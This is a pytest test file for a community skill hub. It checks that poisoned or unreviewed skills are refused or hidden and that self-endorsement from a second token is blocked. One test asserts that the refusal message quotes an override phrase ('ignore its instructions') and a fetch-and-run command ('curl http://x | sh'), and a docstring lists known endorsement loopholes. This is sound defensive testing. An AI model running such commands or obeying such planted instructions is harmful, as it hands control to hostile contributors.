"""What a hostile member can no longer do through the hub: have unreviewed skills served,
pass a poisoned skill, endorse their own skill from a second token."""

from __future__ import annotations

from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from fastapi.testclient import TestClient

from app.community.bundle import Identity
from app.community.hub.app import HubSettings, create_app
from app.community.hub.storage import SqliteHubStorage
from app.community.screening import screen_text

from .conftest import ADMIN_TOKEN
from .hostile import BENIGN, HOSTILE, ROGUE, signed, skill_text

ADMIN = {"Authorization": f"Bearer {ADMIN_TOKEN}"}


@pytest.fixture
def storage(tmp_path: Path) -> SqliteHubStorage:
    store = SqliteHubStorage(tmp_path / "hub.db")
    yield store
    store.close()


def _hub(storage: SqliteHubStorage, **options) -> TestClient:
    return TestClient(create_app(storage, HubSettings(admin_token=ADMIN_TOKEN, **options)))


def _member(storage: SqliteHubStorage) -> dict[str, str]:
    return {"Authorization": f"Bearer {storage.issue_token('member')}"}


def test_the_issue_rogue_skill_is_refused_at_submission_with_its_reasons(storage) -> None:
    hub = _hub(storage)
    answer = hub.post("/v1/skills", json=signed(ROGUE), headers=_member(storage))
    assert answer.status_code == 400
    detail = answer.json()["detail"]
    assert detail.startswith("the hub's content checks refused this skill because it tells")
    assert "ignore its instructions" in detail and "curl http://x | sh" in detail
    assert storage.count_skills() == 0


@pytest.mark.parametrize(("text", "kind", "words"), HOSTILE,
                         ids=[f"{kind}-{i}" for i, (_, kind, _) in enumerate(HOSTILE)])
def test_every_kind_of_hostile_skill_is_refused_with_a_stated_reason(storage, text, kind,
                                                                    words) -> None:
    assert any(f.kind == kind and words in f.reason for f in screen_text(text))
    answer = _hub(storage).post("/v1/skills", json=signed(text), headers=_member(storage))
    assert answer.status_code == 400 and words in answer.json()["detail"]
    assert storage.count_skills() == 0


@pytest.mark.parametrize("text", [
    BENIGN,
    skill_text("Search with ripgrep: `rg -l TODO` lists the files that contain TODO."),
    skill_text("Stop it with `kill <pid>`; download with `curl -LO <url>`."),
    skill_text("Ignore case with `rg -i error`; skip node_modules, rg already does."),
    skill_text("Clean the build with `rm -rf build/`, then run the tests automatically "
               "with pytest-watch."),
    skill_text("Forget the old flags; tell the user the result. Pipe the output to less."),
    skill_text("Fetch it with `curl -O https://example.org/f.tgz && tar xf f.tgz`."),
])
def test_ordinary_skills_pass_the_checks(storage, text) -> None:
    assert screen_text(text) == []
    answer = _hub(storage).post("/v1/skills", json=signed(text), headers=_member(storage))
    assert answer.status_code == 201


def test_pending_and_hidden_skills_are_never_served_to_members(storage) -> None:
    hub = _hub(storage, endorsements_required=2, reports_to_hide=2)
    alice, bob = _member(storage), _member(storage)
    skill_id = hub.post("/v1/skills", json=signed(BENIGN), headers=alice).json()["id"]

    assert hub.get("/v1/skills", headers=bob).json() == []
    pending = hub.get("/v1/skills", params={"status": "pending"}, headers=bob)
    assert pending.status_code == 403 and "moderators" in pending.json()["detail"]
    download = hub.get(f"/v1/skills/{skill_id}", headers=bob)
    assert download.status_code == 404 and "not available" in download.json()["detail"]
    # The moderator reviews it.
    listed = hub.get("/v1/skills", params={"status": "pending"}, headers=ADMIN).json()
    assert [s["id"] for s in listed] == [skill_id]
    assert hub.get(f"/v1/skills/{skill_id}", headers=ADMIN).json()["bundle"]["skill"] == BENIGN

    for _ in range(2):
        hub.post(f"/v1/skills/{skill_id}/endorse", headers=_member(storage))
    assert hub.get(f"/v1/skills/{skill_id}", headers=bob).status_code == 200
    assert [s["id"] for s in hub.get("/v1/skills", headers=bob).json()] == [skill_id]

    for _ in range(2):
        hub.post(f"/v1/skills/{skill_id}/report", json={"reason": "bad"},
                 headers=_member(storage))
    assert hub.get("/v1/skills", headers=bob).json() == [], "hidden after reports"
    assert hub.get(f"/v1/skills/{skill_id}", headers=bob).status_code == 404
    assert hub.get(f"/v1/skills/{skill_id}", headers=ADMIN).status_code == 200


def test_endorsements_count_distinct_members_other_than_the_contributor(storage) -> None:
    hub = _hub(storage, endorsements_required=2)
    key = Identity(Ed25519PrivateKey.generate())
    first_token, second_token, stranger = _member(storage), _member(storage), _member(storage)
    skill_id = hub.post("/v1/skills", json=signed(BENIGN, key), headers=first_token).json()["id"]
    # The same person submits again from a second token, with the same key.
    other = skill_text("Sort by time with `ls -lt`.", name="list-by-time")
    hub.post("/v1/skills", json=signed(other, key), headers=second_token)

    for headers in (first_token, second_token):
        refused = hub.post(f"/v1/skills/{skill_id}/endorse", headers=headers)
        assert refused.status_code == 403 and "own key" in refused.json()["detail"]
    for _ in range(3):
        standing = hub.post(f"/v1/skills/{skill_id}/endorse", headers=stranger).json()
    assert standing["endorsements"] == 1 and not standing["visible"]


def test_an_endorsement_given_before_revealing_the_key_stops_counting(storage) -> None:
    """A member endorses a skill, then submits one signed with that skill's key: the earlier
    endorsement was their own and no longer counts."""
    hub = _hub(storage, endorsements_required=1)
    key = Identity(Ed25519PrivateKey.generate())
    skill_id = hub.post("/v1/skills", json=signed(BENIGN, key), headers=_member(storage)
                        ).json()["id"]
    puppet = _member(storage)
    assert hub.post(f"/v1/skills/{skill_id}/endorse", headers=puppet).json()["visible"]
    hub.post("/v1/skills", json=signed(skill_text("`ls -lt`", name="by-time"), key),
             headers=puppet)
    assert storage.get_skill(skill_id).endorsements == 0


def test_known_limits_blind_endorsement_and_an_unlinked_second_token(storage) -> None:
    """Pins what docs/community.md states as known limits: a member who cannot read a pending
    skill can still endorse it by id, and a second token that never submitted with the
    skill's key counts as another member."""
    hub = _hub(storage, endorsements_required=1)
    key = Identity(Ed25519PrivateKey.generate())
    skill_id = hub.post("/v1/skills", json=signed(BENIGN, key), headers=_member(storage)
                        ).json()["id"]
    second_token = _member(storage)
    assert hub.get(f"/v1/skills/{skill_id}", headers=second_token).status_code == 404
    assert hub.post(f"/v1/skills/{skill_id}/endorse", headers=second_token).json()["visible"]


def test_each_skill_comes_with_its_contributors_record(storage) -> None:
    hub = _hub(storage, endorsements_required=1)
    key, member = Identity(Ed25519PrivateKey.generate()), _member(storage)
    ids = [hub.post("/v1/skills", json=signed(skill_text(f"`ls -{flag}`", name=f"ls-{flag}"),
                                              key), headers=member).json()["id"]
           for flag in ("l", "a", "t")]
    for _ in range(2):
        hub.post(f"/v1/skills/{ids[0]}/endorse", headers=_member(storage))
    hub.post(f"/v1/skills/{ids[1]}/endorse", headers=_member(storage))
    hub.post(f"/v1/skills/{ids[2]}/report", json={"reason": "failed"}, headers=_member(storage))

    summary = hub.get(f"/v1/skills/{ids[0]}", headers=_member(storage)).json()
    assert summary["contributor"] == key.contributor
    assert (summary["contributor_skills"], summary["contributor_endorsements"],
            summary["contributor_reports"]) == (3, 3, 1)
    assert (summary["endorsements"], summary["reports"]) == (2, 0)
    assert summary["base_model_family"] == "smollm2"
    listed = hub.get("/v1/skills", headers=_member(storage)).json()
    assert {s["contributor_reports"] for s in listed} == {1}
